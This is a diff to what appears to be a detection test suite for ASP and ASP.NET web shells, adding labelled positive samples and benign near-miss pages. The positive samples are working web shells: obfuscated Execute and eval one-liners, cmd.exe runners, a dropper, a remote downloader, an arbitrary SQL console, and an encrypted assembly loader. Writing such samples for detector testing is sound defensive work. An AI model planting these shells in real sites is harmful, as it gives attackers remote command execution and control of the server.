@@ -1540,6 +1540,280 @@ for name, rdns, bits in pos_der:
 # BENIGN
 # ==========================================================================
 
+# ---- wild-classes: shapes seen in public shell collections (issue 11) -----
+# Written here from descriptions of each class; none is a copy of a public file.
+T = "wild-classes"
+
+pos(T, "concat-fragments-eval.asp",
+    '<%Eval("Ex"&"ec"&"ute(Req"&"uest(""k7""))")%>\r\n<p>.</p>\r\n', eol="lf")
+
+pos(T, "replace-variable-execute.asp", strip1(r'''
+<%
+q = "E#x#e#c#u#t#e#(#R#e#q#u#e#s#t#(#""p""#)#)"
+q = Replace(q, "#", "")
+Execute q
+%>
+'''))
+
+pos(T, "utf7-codepage.asp", strip1(r'''
+<%@ CodePage=65000 %>
+<%+AEU-xecute(Request(+ACI-w+ACI))%>
+'''), eol="lf")
+
+pos(T, "jscript-eval-alias.asp", strip1(r'''
+<script runat="server" language="JScript">
+var box = {run: eval};
+box.run(Request.Form("d") + "");
+</script>
+'''))
+
+pos(T, "jscript-unsafe-wrapper.aspx", strip1(r'''
+<script runat="server" language="JScript">
+function helper(code) {
+    var mode = "un" + "sa" + "fe";
+    return eval(code, mode);
+}
+</script>
+'''))
+
+pos(T, "helper-function-shell.config", strip1(r'''
+<?xml version="1.0"?>
+<configuration>
+  <system.webServer>
+    <handlers><add name="cfg" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" resourceType="Unspecified" /></handlers>
+  </system.webServer>
+</configuration>
+<%
+Function RunIt(c)
+    Set o = CreateObject("WScript.Shell")
+    RunIt = o.Exec("cmd.exe /c " & c).StdOut.ReadAll
+End Function
+Response.Write RunIt(Request.QueryString("q"))
+%>
+'''))
+
+pos(T, "textbox-process.aspx", strip1(r'''
+<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %>
+<script runat="server">
+string RunTool(string args)
+{
+    var info = new ProcessStartInfo("cmd.exe", "/c " + args);
+    info.UseShellExecute = false;
+    info.RedirectStandardOutput = true;
+    return Process.Start(info).StandardOutput.ReadToEnd();
+}
+void Go_Click(object sender, EventArgs e)
+{
+    Output.Text = Server.HtmlEncode(RunTool(CmdBox.Text));
+}
+</script>
+<form runat="server">
+<asp:TextBox ID="CmdBox" runat="server" />
+<asp:Button ID="Go" runat="server" Text="Go" OnClick="Go_Click" />
+<asp:Label ID="Output" runat="server" />
+</form>
+'''))
+
+pos(T, "stdin-console.ashx", strip1(r'''
+<%@ WebHandler Language="C#" Class="Console1" %>
+using System.Diagnostics;
+using System.Web;
+public class Console1 : IHttpHandler {
+    public bool IsReusable { get { return false; } }
+    public void ProcessRequest(HttpContext ctx) {
+        string line = ctx.Request.Form["l"];
+        var p = new Process();
+        p.StartInfo.FileName = "cmd.exe";
+        p.StartInfo.UseShellExecute = false;
+        p.StartInfo.RedirectStandardInput = true;
+        p.StartInfo.RedirectStandardOutput = true;
+        p.Start();
+        p.StandardInput.WriteLine(line);
+        p.StandardInput.Close();
+        ctx.Response.Write(p.StandardOutput.ReadToEnd());
+    }
+}
+'''))
+
+pos(T, "dropper-handler.ashx", strip1(r'''
+<%@ WebHandler Language="C#" Class="Drop" %>
+using System.IO;
+using System.Web;
+public class Drop : IHttpHandler {
+    public bool IsReusable { get { return false; } }
+    public void ProcessRequest(HttpContext context) {
+        string body = "<%@ Page Language=\"Jscript\"%" + "><%eval(Request." + "Item[\"q\"],\"unsafe\");%>";
+        using (StreamWriter w = File.CreateText(context.Server.MapPath("status.aspx")))
+            w.Write(body);
+    }
+}
+'''))
+
+pos(T, "downloader-saves-page.asp", strip1(r'''
+<%
+Set h = Server.CreateObject("MSXML2.ServerXMLHTTP")
+h.Open "GET", "http://files.contoso.com/update.txt", False
+h.Send
+Set st = Server.CreateObject("ADODB.Stream")
+st.Type = 1
+st.Open
+st.Write h.ResponseBody
+st.SaveToFile Server.MapPath("help.asp"), 2
+st.Close
+%>
+'''))
+
+pos(T, "fso-file-manager.asp", strip1(r'''
+<%
+Set f = Server.CreateObject("Scrip" & "ting.FileSys" & "temObject")
+d = Request("dir")
+If Request("del") <> "" Then f.DeleteFile d & "\" & Request("del")
+For Each x In f.GetFolder(d).Files
+    Response.Write x.Name & "<br>"
+Next
+%>
+'''))
+
+pos(T, "sql-console.aspx", strip1(r'''
+<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Data.SqlClient" %>
+<%
+string cs = Request.Form["cs"], q = Request.Form["q"];
+if (!string.IsNullOrEmpty(q)) {
+    using (var c = new SqlConnection(cs)) {
+        c.Open();
+        var r = new SqlCommand(q, c).ExecuteReader();
+        while (r.Read()) Response.Write(r[0] + "\n");
+    }
+}
+%>
+'''))
+
+pos(T, "xslt-script.aspx", strip1(r'''
+<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Xml" %>
+<%@ Import Namespace="System.Xml.Xsl" %>
+<%
+string sheet = @"<xsl:stylesheet version=""1.0"" xmlns:xsl=""http://www.w3.org/1999/XSL/Transform"" xmlns:msxsl=""urn:schemas-microsoft-com:xslt"" xmlns:u=""urn:u"">
+<msxsl:script language=""JScript"" implements-prefix=""u"">function go() { var r = System.Web.HttpContext.Current.Request; eval(r.Form['x'], 'unsafe'); return ''; }</msxsl:script>
+<xsl:template match=""/""><xsl:value-of select=""u:go()""/></xsl:template></xsl:stylesheet>";
+var x = new XslCompiledTransform();
+var d = new XmlDocument(); d.LoadXml(sheet);
+x.Load(d, XsltSettings.TrustedXslt, new XmlUrlResolver());
+%>
+'''))
+
+pos(T, "reflection-load.aspx", strip1(r'''
+<%@ Page Language="C#" %>
+<%
+byte[] k = System.Text.Encoding.UTF8.GetBytes("0123456789abcdef");
+byte[] blob = System.Convert.FromBase64String(Request.Form["b"]);
+blob = new System.Security.Cryptography.AesManaged().CreateDecryptor(k, k).TransformFinalBlock(blob, 0, blob.Length);
+var asm = typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { blob });
+%>
+'''))
+
+pos(T, "include-image.asp",
+    '<!--#include file="images/logo-small.gif"-->\r\n<html><body>Welcome</body></html>\r\n', eol="lf")
+
+pos(T, "fragment-no-delimiters.asp",
+    'Execute(Request("z"))\r\n', eol="lf")
+
+# ---- near misses for the classes above: ordinary code that must stay quiet
+S = "wild-near-miss"
+
+ben(S, "sqlsearch.aspx", strip1(r'''
+<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Data.SqlClient" %>
+<%
+string term = Request.QueryString["q"] ?? "";
+using (var c = new SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["main"].ConnectionString)) {
+    c.Open();
+    var cmd = new SqlCommand("SELECT Name FROM Products WHERE Name LIKE @t", c);
+    cmd.Parameters.AddWithValue("@t", "%" + term + "%");
+    var r = cmd.ExecuteReader();
+    while (r.Read()) Response.Write(Server.HtmlEncode(r.GetString(0)) + "<br/>");
+}
+%>
+'''))
+
+ben(S, "ContactForm.aspx", strip1(r'''
+<%@ Page Language="C#" %>
+<script runat="server">
+void Send_Click(object sender, EventArgs e)
+{
+    string path = Server.MapPath("~/App_Data/messages.txt");
+    System.IO.File.AppendAllText(path, Server.HtmlEncode(MessageBox.Text) + "\n");
+    Thanks.Visible = true;
+}
+</script>
+<form runat="server">
+<asp:TextBox ID="MessageBox" runat="server" TextMode="MultiLine" />
+<asp:Button ID="Send" runat="server" Text="Send" OnClick="Send_Click" />
+<asp:Label ID="Thanks" runat="server" Visible="false" Text="Thank you" />
+</form>
+'''))
+
+ben(S, "Gallery.aspx.cs", strip1(r'''
+using System;
+using System.IO;
+using System.Web.UI;
+public partial class Gallery : Page
+{
+    protected void Page_Load(object sender, EventArgs e)
+    {
+        string album = Path.GetFileName(Request.QueryString["album"] ?? "default");
+        string dir = Path.Combine(Server.MapPath("~/photos"), album);
+        if (!Directory.Exists(dir))
+            return;
+        foreach (string f in Directory.GetFiles(dir, "*.jpg"))
+            Response.Write("<img src='photos/" + album + "/" + Path.GetFileName(f) + "'/>");
+    }
+}
+'''))
+
+ben(S, "Proxy.ashx", strip1(r'''
+<%@ WebHandler Language="C#" Class="Proxy" %>
+using System.IO;
+using System.Net;
+using System.Web;
+public class Proxy : IHttpHandler {
+    public bool IsReusable { get { return true; } }
+    public void ProcessRequest(HttpContext context) {
+        var request = (HttpWebRequest)WebRequest.Create("https://api.contoso.com/rates");
+        request.Method = "POST";
+        using (var w = new StreamWriter(request.GetRequestStream()))
+            w.Write("{\"currency\":\"EUR\"}");
+        using (var r = new StreamReader(request.GetResponse().GetResponseStream()))
+            context.Response.Write(r.ReadToEnd());
+    }
+}
+'''))
+
+ben(S, "include-footer.asp",
+    '<!--#include file="inc/footer.inc"-->\r\n<!--#include virtual="/shared/menu.asp"-->\r\n<p>Home</p>\r\n', eol="lf")
+
+ben(S, "PluginHost.aspx.cs", strip1(r'''
+using System;
+using System.Reflection;
+using System.Web.UI;
+public partial class PluginHost : Page
+{
+    protected void Page_Load(object sender, EventArgs e)
+    {
+        if (Request.Params.Get("plugin") != null)
+        {
+            Guid id = new Guid(Request.Params.Get("plugin"));
+            string path = Server.MapPath("~/bin/Plugins.dll");
+            Assembly a = Assembly.LoadFrom(path);
+            Type t = a.GetType("Plugins.P" + id.ToString("N"));
+        }
+    }
+}
+'''))
+
+
 # ---- codebehind: pages with a code-behind class --------------------------
 S = "codebehind"
 
